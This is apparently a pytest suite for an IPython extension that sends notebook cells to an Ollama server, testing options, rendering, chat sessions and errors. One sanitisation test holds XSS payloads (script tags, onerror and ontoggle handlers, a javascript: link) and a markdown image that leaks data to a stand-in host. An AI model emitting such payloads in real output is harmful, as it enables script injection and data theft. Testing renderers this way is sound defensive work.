"""The magics, driven through a real IPython shell against the stand-in server."""

from __future__ import annotations

import json
import threading
from html.parser import HTMLParser

import pytest
from _util import plain, wait_until
from IPython.core.error import UsageError
from IPython.utils.capture import capture_output
from test_client import _interrupt_when_blocked_in_recv
from traitlets import TraitError

from ollama_magic import BadRequest, ModelNotFound, StreamError
from ollama_magic.magics import OllamaMagics
from ollama_magic.markdown import render_markdown
from ollama_magic.testing import Fault, Reply


def run(ipython, line, cell):
    """Run ``%%ollama line`` with ``cell``; return the captured outputs."""
    with capture_output() as captured:
        ipython.run_cell_magic("ollama", line, cell)
    return captured


def final_html(captured) -> str:
    """What the frontend shows at the end: each display's latest content, in order."""
    latest: dict[str, str] = {}
    order: list[str] = []
    for i, output in enumerate(captured.outputs):
        key = (output.transient or {}).get("display_id") or f"plain-{i}"
        if key not in latest:
            order.append(key)
        latest[key] = output.data.get("text/html", "")
    return "".join(latest[k] for k in order)


def last_body(server, path="/api/generate"):
    return server.last_request(path).body


# -- the request ------------------------------------------------------------------------------


def test_a_cell_streams_an_answer_rendered_as_markdown(ipython, fake_ollama):
    answer = "# Entropy\n\nA measure of **disorder**:\n\n- heat\n- chance\n"
    fake_ollama.add_reply("entropy", answer)
    captured = run(ipython, "llama3.2", "Explain entropy")
    html = final_html(captured)
    assert html.startswith('<div class="ollama-magic-answer">' + render_markdown(answer))
    assert "ollama-magic-footer" in html and "llama3.2" in html
    assert any(o.update for o in captured.outputs), "the answer should update in place"
    final = captured.outputs[-1]
    assert final.data["text/plain"].startswith(answer + "\n\n[llama3.2 · ")
    provenance = [o.metadata["ollama_magic"] for o in captured.outputs if o.metadata]
    assert provenance[-1]["model"] == "llama3.2"
    assert provenance[-1]["prompt"] == "Explain entropy"
    assert provenance[-1]["path"] == "/api/generate"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("-m qwen3", {"model": "qwen3"}),
        ("-t 0.2", {"options": {"temperature": 0.2}}),
        ("--seed 42", {"options": {"seed": 42}}),
        ("-n 64", {"options": {"num_predict": 64}}),
        ("--ctx 8192", {"options": {"num_ctx": 8192}}),
        (
            "--option top_k=20 --option stop='[\"\\n\\n\"]' --option mirostat=true",
            {"options": {"top_k": 20, "stop": ["\n\n"], "mirostat": True}},
        ),
        ("--keep-alive 300", {"keep_alive": 300.0}),
        ("--keep-alive -1", {"keep_alive": -1.0}),
        ("--keep-alive 10m", {"keep_alive": "10m"}),
        ("--raw", {"raw": True}),
        ("--suffix '    return x'", {"suffix": "    return x"}),
        ("--template '{{ .Prompt }}'", {"template": "{{ .Prompt }}"}),
        ("--logprobs", {"logprobs": True}),
        ("--top-logprobs 3", {"logprobs": True, "top_logprobs": 3}),
        ("--no-stream", {"stream": False}),
        ("-s 'You are terse.'", {"system": "You are terse."}),
    ],
)
def test_each_option_changes_the_request(ipython, fake_ollama, line, expected):
    model = "" if "-m" in line else "qwen2.5-coder " if "suffix" in line else "llama3.2 "
    run(ipython, model + line, "Say hi")
    body = last_body(fake_ollama)
    for key, value in expected.items():
        assert body[key] == value, key
    assert body["prompt"] == "Say hi"


def test_unset_options_are_not_sent(ipython, fake_ollama):
    run(ipython, "llama3.2", "hi")
    assert last_body(fake_ollama) == {"model": "llama3.2", "prompt": "hi", "stream": True}


def test_host_option_sends_to_another_server(ipython, fake_ollama):
    from ollama_magic.testing import FakeOllama

    with FakeOllama() as other:
        run(ipython, f"llama3.2 --host {other.url}", "hi")
        assert other.last_request("/api/generate").body["prompt"] == "hi"
    assert fake_ollama.last_request("/api/generate") is None


def test_configured_options_and_model_apply_to_every_cell(ipython, fake_ollama):
    ipython.run_line_magic("config", "OllamaMagics.options = {'temperature': 0.1, 'seed': 1}")
    ipython.run_line_magic("config", "OllamaMagics.model = 'qwen3'")
    run(ipython, "-t 0.5", "hi")
    body = last_body(fake_ollama)
    assert body["model"] == "qwen3"
    assert body["options"] == {"temperature": 0.5, "seed": 1}


def test_model_from_the_environment(fake_ollama, monkeypatch):
    monkeypatch.setenv("OLLAMA_MODEL", "llava")
    assert OllamaMagics().model == "llava"


def test_without_a_model_the_newest_local_one_is_used_and_named(ipython, fake_ollama):
    html = final_html(run(ipython, "", "hi"))
    assert last_body(fake_ollama)["model"] == "llama3.2:latest"
    assert "llama3.2:latest was chosen as the newest local model" in html


def test_without_any_local_model_the_error_says_how_to_pull_one(ipython, fake_ollama):
    for model in list(fake_ollama.models):
        fake_ollama.remove_model(model.name)
    with pytest.raises(Exception, match="has no models yet") as info:
        run(ipython, "", "hi")
    assert "%ollama pull" in info.value.hint


def test_interpolation_from_the_namespace(ipython, fake_ollama):
    ipython.user_ns.update(topic="entropy", n=3.14159, xs=[1, 2])
    run(ipython, "llama3.2", 'Explain {topic} in {n:.1f} words, {xs[1]}: {"json": {"stays": 1}}')
    assert (
        last_body(fake_ollama)["prompt"]
        == 'Explain entropy in 3.1 words, 2: {"json": {"stays": 1}}'
    )
    run(ipython, "llama3.2 --no-interpolate", "Explain {topic}")
    assert last_body(fake_ollama)["prompt"] == "Explain {topic}"


def test_interpolating_a_dataframe(ipython, fake_ollama):
    pd = pytest.importorskip("pandas")
    ipython.user_ns["df"] = pd.DataFrame({"city": ["Oslo", "Lima"], "temp": [3, 19]})
    run(ipython, "llama3.2", "Which city is warmer?\n{df}")
    prompt = last_body(fake_ollama)["prompt"]
    assert "Oslo" in prompt and "19" in prompt


def test_dollar_signs_and_braces_in_the_line_are_not_expanded(ipython, fake_ollama):
    ipython.user_ns["x"] = "EXPANDED"
    run(ipython, "llama3.2 -s 'costs $x {x}'", "hi")
    assert last_body(fake_ollama)["system"] == "costs $x {x}"


# -- output -----------------------------------------------------------------------------------


def test_out_binds_the_answer(ipython, fake_ollama):
    fake_ollama.add_reply("capital", "Paris.")
    run(ipython, "llama3.2 -o answer", "The capital of France?")
    assert ipython.user_ns["answer"] == "Paris."


def test_quiet_shows_nothing(ipython, fake_ollama):
    fake_ollama.add_reply("capital", "Paris.")
    captured = run(ipython, "llama3.2 -q -o answer", "The capital of France?")
    assert captured.outputs == [] and captured.stdout == ""
    assert ipython.user_ns["answer"] == "Paris."


def test_plain_prints_text(ipython, fake_ollama):
    fake_ollama.add_reply("capital", "**Paris**.")
    captured = run(ipython, "llama3.2 --plain", "The capital of France?")
    assert captured.outputs == []
    assert captured.stdout.startswith("**Paris**.")
    assert "[llama3.2 · " in captured.stdout


def test_dry_run_shows_the_request_and_sends_nothing(ipython, fake_ollama):
    ipython.user_ns["topic"] = "tides"
    captured = run(ipython, "llama3.2 -t 0 --dry-run", "Explain {topic}")
    request, note = captured.outputs[0].data["text/plain"].split("\n\n")
    assert note == "Dry run: nothing was sent. Filled from the notebook: {topic}."
    shown = json.loads(request)
    assert shown == {
        "host": fake_ollama.url,
        "path": "/api/generate",
        "body": {
            "model": "llama3.2",
            "options": {"temperature": 0.0},
            "prompt": "Explain tides",
            "stream": True,
        },
    }
    assert "nothing was sent" in captured.outputs[0].data["text/html"]
    assert fake_ollama.requests == []


def test_headings_lists_code_tables_and_unicode_render_as_html(ipython, fake_ollama):
    answer = (
        "## Results\n\n1. first\n2. second\n\n```python\nprint('東京 🎉')\n```\n\n"
        "| name | value |\n|---|---|\n| π | 3.14 |\n"
    )
    fake_ollama.add_reply("results", answer)
    html = final_html(run(ipython, "llama3.2", "results please"))
    assert "<h2>Results</h2>" in html and "<ol>" in html and "<li>second</li>" in html
    assert "<code class=\"language-python\">print('東京 🎉')" in html
    assert "<table>" in html and "<td>π</td>" in html


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def test_model_written_html_never_reaches_the_output(ipython, fake_ollama):
    evil = (
        "Hi <script>alert(1)</script> <img src=x onerror=alert(2)>\n\n"
        "[click me](javascript:alert(3)) <details ontoggle=alert(4)>\n\n"
        "![leak](https://evil.example/?q=secret)\n"
    )
    fake_ollama.add_reply("evil", evil)
    captured = run(ipython, "llama3.2", "evil")
    for output in captured.outputs:
        parser = _Tags()
        parser.feed(output.data.get("text/html", ""))
        for tag, attrs in parser.found:
            assert tag not in ("script", "img", "details")
            assert not any(name.startswith("on") for name in attrs)
            assert not (attrs.get("href") or "").startswith("javascript:")
        assert "text/markdown" not in output.data


def test_a_long_answer_updates_in_few_outputs(ipython, fake_ollama):
    answer = "\n\n".join(f"Paragraph {i} with a few words." for i in range(400))
    fake_ollama.add_reply("long", answer)
    captured = run(ipython, "llama3.2", "long")
    display_ids = {(o.transient or {}).get("display_id") for o in captured.outputs}
    assert len(display_ids) <= 24
    assert final_html(captured).count("<p>Paragraph") == 400


def test_a_truncated_answer_says_so(ipython, fake_ollama):
    html = final_html(run(ipython, "llama3.2 -n 3", "tell me a long story"))
    assert "truncated at the token limit" in html


# -- conversations ----------------------------------------------------------------------------


def test_chat_keeps_the_conversation(ipython, fake_ollama):
    fake_ollama.add_reply("name", "Nice to meet you, Ada.")
    run(ipython, "llama3.2 --chat -s 'Be brief.'", "My name is Ada.")
    run(ipython, "llama3.2 -c", "What is my name?")
    messages = last_body(fake_ollama, "/api/chat")["messages"]
    assert messages == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "My name is Ada."},
        {"role": "assistant", "content": "Nice to meet you, Ada."},
        {"role": "user", "content": "What is my name?"},
    ]
    magics = ipython.magics_manager.registry["OllamaMagics"]
    assert len(magics.workspace.conversations["default"]) == 5
    assert magics.workspace.conversations["default"].messages[-1]["role"] == "assistant"


def test_named_sessions_are_separate(ipython, fake_ollama):
    run(ipython, "llama3.2 --session physics", "What is entropy?")
    run(ipython, "llama3.2 --session history", "Who was Ada Lovelace?")
    run(ipython, "llama3.2 --session physics", "And enthalpy?")
    contents = [m["content"] for m in last_body(fake_ollama, "/api/chat")["messages"]]
    assert "What is entropy?" in contents and "Who was Ada Lovelace?" not in contents


def test_history_and_reset(ipython, fake_ollama):
    fake_ollama.add_reply("hello", "Hello to you.")
    run(ipython, "llama3.2 -c", "hello")
    with capture_output() as captured:
        ipython.run_line_magic("ollama", "history")
    assert "Hello to you." in captured.outputs[0].data["text/plain"]
    with capture_output() as captured:
        ipython.run_line_magic("ollama", "reset")
    assert "Forgot 2 messages" in captured.stdout
    with capture_output() as captured:
        ipython.run_line_magic("ollama", "history")
    assert "is empty" in captured.stdout


def test_chat_rejects_one_shot_only_options(ipython):
    with pytest.raises(UsageError, match="--raw works with one-shot prompts"):
        run(ipython, "llama3.2 -c --raw", "hi")


# -- errors and interrupts --------------------------------------------------------------------


def test_errors_show_as_two_lines_not_a_traceback(ipython, fake_ollama, capsys):
    ipython.run_cell("%%ollama llama3\nhi")
    out = plain(capsys.readouterr().out).strip().splitlines()
    assert len(out) == 2
    assert "ModelNotFound: Model 'llama3' is not on the Ollama server" in out[0]
    assert "ollama pull llama3" in out[1]


def test_errors_raise_the_family_error_with_the_server_text(ipython, fake_ollama):
    with pytest.raises(ModelNotFound):
        run(ipython, "nope", "hi")
    with pytest.raises(BadRequest, match="top_logprobs must be between 0 and 20"):
        run(ipython, "llama3.2 --top-logprobs 50", "hi")


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("--temperature warm", "-t takes a number or a list like 0,0.7,1.5, not 'warm'"),
        ("--nope", "unrecognized arguments"),
        ("llama3.2 -m qwen3", "Give the model once"),
        ("-s 'unclosed", "No closing quotation"),
        ("--option novalue", "KEY=VALUE"),
    ],
)
def test_bad_arguments_are_usage_errors(ipython, line, message):
    with pytest.raises(UsageError, match=message):
        run(ipython, line, "hi")


def test_an_empty_cell_is_a_usage_error(ipython):
    with pytest.raises(UsageError, match="The cell is empty"):
        run(ipython, "llama3.2", "   \n")


def test_a_stream_failing_midway_keeps_what_arrived(ipython, fake_ollama):
    fake_ollama.add_reply("long", "one two three four five six")
    fake_ollama.inject(Fault(error_after=3, error="model runner has unexpectedly stopped"))
    with pytest.raises(StreamError) as info, capture_output() as captured:
        ipython.run_cell_magic("ollama", "llama3.2 -o partial", "long")
    html = final_html(captured)
    assert "one two three" in html and "four" not in html
    assert "model runner has unexpectedly stopped" in html
    assert ipython.user_ns["partial"] == "one two three" == info.value.partial


def test_an_interrupt_keeps_the_partial_answer_and_reraises(ipython, fake_ollama):
    fake_ollama.add_reply(
        "slow", Reply(text="alpha beta gamma delta epsilon", fault=Fault(delay=0.3))
    )
    main = threading.get_ident()
    watcher = threading.Thread(target=_interrupt_after_first_token, args=(fake_ollama, main))
    watcher.start()
    with pytest.raises(KeyboardInterrupt), capture_output() as captured:
        ipython.run_cell_magic("ollama", "llama3.2 -c -o partial", "slow")
    watcher.join(10)
    html = final_html(captured)
    assert "alpha" in html and "interrupted" in html
    assert ipython.user_ns["partial"].startswith("alpha")
    assert "epsilon" not in ipython.user_ns["partial"]
    request = fake_ollama.last_request("/api/chat")
    assert request.finished.wait(10) and request.client_disconnected
    # The conversation keeps the turn with its partial answer.
    conversation = ipython.magics_manager.registry["OllamaMagics"].workspace.conversations[
        "default"
    ]
    assert conversation.messages[-1] == {"role": "assistant", "content": ipython.user_ns["partial"]}


def _interrupt_after_first_token(server, thread_id):
    # Two chunks sent (0.3 s apart) and the reader back in recv(): the first has certainly
    # arrived and been shown; the interrupt then lands in the blocked read.
    wait_until(
        lambda: (
            server.last_request("/api/chat") and server.last_request("/api/chat").chunks_sent >= 2
        )
    )
    _interrupt_when_blocked_in_recv(thread_id)


# -- %ollama ----------------------------------------------------------------------------------


def line(ipython, text):
    with capture_output() as captured:
        ipython.run_line_magic("ollama", text)
    return captured


def test_models_table(ipython):
    captured = line(ipython, "models")
    text = captured.outputs[0].data["text/plain"]
    assert text.splitlines()[0].split() == [
        "name",
        "size",
        "parameters",
        "quantization",
        "modified",
    ]
    assert "llama3.2:latest" in text and "3.2B" in text and "Q4_K_M" in text
    assert "<table>" in captured.outputs[0].data["text/html"]


def test_ps_lists_loaded_models(ipython):
    assert "No model is loaded" in line(ipython, "ps").stdout
    run(ipython, "llama3.2 -q", "hi")
    assert "llama3.2:latest" in line(ipython, "ps").outputs[0].data["text/plain"]


def test_show_capabilities_and_template(ipython):
    text = line(ipython, "show qwen3").outputs[0].data["text/plain"]
    assert "thinking" in text and "**Template**" in text


def test_pull_shows_progress_in_place(ipython, fake_ollama):
    captured = line(ipython, "pull gemma3")
    assert len({o.transient["display_id"] for o in captured.outputs}) == 1
    assert "success" in captured.outputs[-1].data["text/plain"]
    assert "<progress" in captured.outputs[-1].data["text/html"]
    assert "gemma3:latest" in line(ipython, "models").outputs[0].data["text/plain"]


def test_pulling_an_unknown_model_is_one_clear_error(ipython):
    with pytest.raises(ModelNotFound, match="no model 'nope-nope' in the registry"):
        line(ipython, "pull nope-nope")


def test_status(ipython, fake_ollama):
    text = line(ipython, "status").stdout
    assert "server: Ollama 0.33.0" in text
    ipython.run_line_magic("config", "OllamaMagics.model = 'mistral'")
    assert "NOT pulled: %ollama pull mistral" in line(ipython, "status").stdout


def test_status_when_the_server_is_down(ipython, dead_url):
    ipython.run_line_magic("ollama", f"config host={dead_url}")
    assert "server: not reachable" in line(ipython, "status").stdout


def test_config_shows_and_sets(ipython, fake_ollama, monkeypatch):
    monkeypatch.setenv("OLLAMA_API_KEY", "sk-secret-key-12345")
    text = line(ipython, "config model=qwen3 temperature=0.3 fps=4").stdout
    assert "qwen3" in text and "'temperature': 0.3" in text and "4.0" in text
    assert "sk-secret-key-12345" not in text and "Bearer " in text
    run(ipython, "", "hi")
    assert last_body(fake_ollama)["model"] == "qwen3"
    assert last_body(fake_ollama)["options"] == {"temperature": 0.3}


def test_help_and_unknown_commands(ipython):
    assert "%ollama pull MODEL" in line(ipython, "help").stdout
    assert "--temperature" in line(ipython, "").stdout
    with pytest.raises(UsageError, match="Unknown %ollama command 'frobnicate'"):
        line(ipython, "frobnicate")


def test_cell_magic_help_lists_options_and_examples():
    doc = OllamaMagics.ollama_cell.__doc__
    for needle in ("--chat", "--dry-run", "-o NAME", "--option KEY=VALUE", "Examples", "{name}"):
        assert needle in doc


def test_traceback_on_demand(ipython, capsys):
    ipython.run_cell("%%ollama llama3\nhi")
    capsys.readouterr()
    ipython.run_line_magic("ollama", "traceback")
    assert "Traceback (most recent call last)" in capsys.readouterr().out


def test_unload_removes_the_magics(ipython):
    ipython.extension_manager.unload_extension("ollama_magic")
    assert "ollama" not in ipython.magics_manager.magics["cell"]
    assert "ollama" not in ipython.magics_manager.magics["line"]
    ipython.extension_manager.load_extension("ollama_magic")
    assert "ollama" in ipython.magics_manager.magics["cell"]


def test_in_terminal_ipython_the_answer_streams_as_plain_text(ipython, fake_ollama, capsys):
    # Terminal IPython's display publisher prints only text/plain: the magic writes text.
    fake_ollama.add_reply("capital", "**Paris** is the capital.")
    ipython.run_cell_magic("ollama", "llama3.2", "The capital of France?")
    out = capsys.readouterr().out
    assert out.startswith("**Paris** is the capital.\n\n[llama3.2 · ")
    assert "<" not in out


def test_chat_opens_a_widget_on_the_conversation(ipython, fake_ollama):
    fake_ollama.add_reply("first", "Answer one.")
    run(ipython, "llama3.2 --session s", "first question")
    with capture_output():
        widget = ipython.run_line_magic("ollama", "chat llama3.2 --session s")
    try:
        magics = ipython.magics_manager.registry["OllamaMagics"]
        assert widget.conversation is magics.workspace.conversations["s"]
        assert widget.messages[-1]["content"] == "Answer one."
    finally:
        widget.close()
    with pytest.raises(UsageError, match="Usage: %ollama chat"):
        ipython.run_line_magic("ollama", "chat --bogus")


def test_the_newest_local_model_is_never_an_embedding_model(ipython, fake_ollama):
    fake_ollama.add_model("my-embedder", capabilities=("embedding",), family="bert")
    assert (
        line(ipython, "models")
        .outputs[0]
        .data["text/plain"]
        .splitlines()[1]
        .startswith("my-embedder")
    ), "the embedder is the newest model"
    run(ipython, "", "hi")
    assert last_body(fake_ollama)["model"] == "llama3.2:latest"


def test_config_refuses_unknown_settings_instead_of_sending_them(ipython, fake_ollama):
    with pytest.raises(UsageError, match=r"Unknown setting 'tempreature'\. Did you mean tempera"):
        line(ipython, "config tempreature=0.1")
    line(ipython, "config options.mirostat=1 num_ctx=4096")
    run(ipython, "llama3.2", "hi")
    assert last_body(fake_ollama)["options"] == {"mirostat": 1, "num_ctx": 4096}
    with pytest.raises(UsageError, match="fps must be above 0"):
        line(ipython, "config fps=0")
    magics = ipython.magics_manager.registry["OllamaMagics"]
    with pytest.raises(TraitError, match="timeout must be a positive"):
        magics.timeout = -1


def test_dash_h_prints_the_help(ipython, fake_ollama):
    captured = run(ipython, "-h", "ignored")
    assert "--temperature" in captured.stdout and "Examples" in captured.stdout
    assert fake_ollama.requests == []


def test_logprobs_are_kept_and_said(ipython, fake_ollama):
    html = final_html(run(ipython, "llama3.2 --top-logprobs 2", "hi"))
    logprobs = ipython.user_ns["_ollama_logprobs"]
    assert logprobs and "logprob" in logprobs[0] and len(logprobs[0]["top_logprobs"]) == 2
    assert f"log-probabilities of {len(logprobs)} tokens in _ollama_logprobs" in html


def test_metadata_does_not_grow_with_the_conversation(ipython, fake_ollama):
    for question in ("one", "two", "three"):
        captured = run(ipython, "llama3.2 -c", question)
    provenance = [o.metadata["ollama_magic"] for o in captured.outputs if o.metadata][-1]
    assert provenance["prompt"] == "three" and provenance["history_messages"] == 4
    assert '"role"' not in json.dumps(provenance), "no copy of the history"
